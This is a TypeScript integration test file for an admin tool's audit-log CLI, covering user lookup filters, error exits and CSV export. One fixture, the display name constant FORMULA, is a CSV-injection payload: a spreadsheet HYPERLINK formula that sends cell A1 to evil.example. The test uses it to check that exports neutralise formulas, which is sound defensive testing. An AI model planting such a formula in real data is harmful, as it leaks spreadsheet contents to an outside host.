/**
 * "What happened to this user?": changes made against the sandbox, then found with `hmc audit list`
 * by sAMAccountName, UPN, GUID and display-name fragment, by outcome and time range, and exported
 * with `hmc audit export --csv` for a user whose display name is a spreadsheet formula, read back
 * with a real CSV parser.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Core } from '../../../electron/app/core';
import type { AuditEntry } from '../../../shared/audit/filter';
import { runHmc } from '../../support/cli';
import { fails, sandboxCore, type SandboxCore } from './helpers';

let s: SandboxCore;
const ctx = { door: 'test' as const };
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

/** The CLI on the test's core (one PowerShell for the file); the CLI's dispose leaves it running. */
function hmc(...argv: string[]) {
  const shared = Object.create(s.core, { dispose: { value: async () => undefined } }) as Core;
  return runHmc(argv, { env: s.env, core: async () => shared });
}

async function list(...argv: string[]): Promise<AuditEntry[]> {
  const r = await hmc('audit', 'list', '--json', ...argv);
  expect(r.code, r.err).toBe(0);
  return JSON.parse(r.out) as AuditEntry[];
}

let started: string;
let guid: string;

beforeAll(async () => {
  s = await sandboxCore();
  started = new Date(Date.now() - 1000).toISOString();
  await s.core.router.invoke('sandbox.addUser', { samAccountName: 'eve.formula', displayName: FORMULA, firstName: 'Eve', lastName: 'Formula' }, ctx);
  const r = await s.core.router.invoke('mailbox.enableRemote', { identity: 'eve.formula' }, ctx);
  guid = r.recipient!.Guid!;
  await s.core.router.invoke('mailbox.enableRemote', { identity: 'sean.obrien' }, ctx);
  await s.core.router.invoke('mailbox.setHidden', { identity: 'sean.obrien', hidden: true }, ctx);
  await fails(s.core.router.invoke('mailbox.setHidden', { identity: 'adele.vance', hidden: true }, ctx));
}, 120_000);
afterAll(async () => {
  await s?.dispose();
});

test('a user is found by sAMAccountName, UPN, GUID and display-name fragment; another user is not', async () => {
  const bySam = await list('--user', 'sean.obrien');
  expect(bySam.map((e) => e.op)).toEqual(['mailbox.setHidden', 'mailbox.enableRemote']);
  expect(bySam[0]).toMatchObject({ displayName: "Sean O'Brien", samAccountName: 'sean.obrien', userPrincipalName: 'sean.obrien@corp.contoso.example', outcome: 'ok' });
  expect(bySam[0]!.changes).toEqual([{ field: 'HiddenFromAddressListsEnabled', before: false, after: true }]);
  expect((await list('--user', 'SEAN.OBRIEN@corp.contoso.example')).length).toBe(2);
  expect((await list('--user', "o'bri")).map((e) => e.samAccountName)).toEqual(['sean.obrien', 'sean.obrien']);
  expect((await list('--user', guid)).map((e) => e.op)).toEqual(['mailbox.enableRemote']);
  // A fragment of a sAMAccountName is not a match (only whole names, or a display-name fragment).
  expect(await list('--user', 'sean.ob')).toEqual([]);
});

test('by outcome, operation and time range', async () => {
  const failed = await list('--outcome', 'failed');
  expect(failed.map((e) => [e.samAccountName, e.error?.code])).toEqual([['adele.vance', 'WRONG_RECIPIENT_TYPE']]);
  expect((await list('--outcome', 'ok', '--op', 'mailbox.enableRemote')).map((e) => e.samAccountName)).toEqual(['sean.obrien', 'eve.formula']);
  expect(await list('--outcome', 'unfinished')).toEqual([]);
  expect((await list('--since', started)).length).toBeGreaterThanOrEqual(5);
  expect(await list('--until', started)).toEqual([]);
  expect(await list('--since', '2099-01-01')).toEqual([]);
  const human = await hmc('audit', 'list', '--user', 'sean.obrien');
  expect(human.out).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} \S+ {2}ok/m);
});

test('bad filters say what is wrong and exit 2', async () => {
  const since = await hmc('audit', 'list', '--since', 'yesterday', '--json');
  expect(since.code).toBe(2);
  expect(JSON.parse(since.out).error.message).toContain('ISO time');
  const outcome = await hmc('audit', 'list', '--outcome', 'done');
  expect(outcome.code).toBe(2);
  expect(outcome.err).toContain('--outcome must be ok, failed or unfinished');
});

test('CSV export: a formula display name stays text, read back by a CSV parser', async () => {
  const file = join(s.home, 'audit.csv');
  const r = await hmc('audit', 'export', '--csv', file, '--user', 'eve.formula');
  expect(r.code, r.err).toBe(0);
  // The account's creation in the sandbox and its enable.
  expect(r.out).toContain('2 changes written to');
  const rows = parse(readFileSync(file, 'utf8'), { columns: true }) as Record<string, string>[];
  expect(rows.map((x) => x.operation)).toEqual(['mailbox.enableRemote', 'sandbox.addUser']);
  expect(rows[0]!.displayName).toBe(`'${FORMULA}`);
  expect(rows[0]!.samAccountName).toBe('eve.formula');
  expect(rows[0]!.started).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  expect(rows[0]!.changes).toContain('RecipientTypeDetails: User -> RemoteUserMailbox');
  // No cell of any row starts with a formula character.
  const all = parse(readFileSync(file, 'utf8')) as string[][];
  for (const row of all) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});
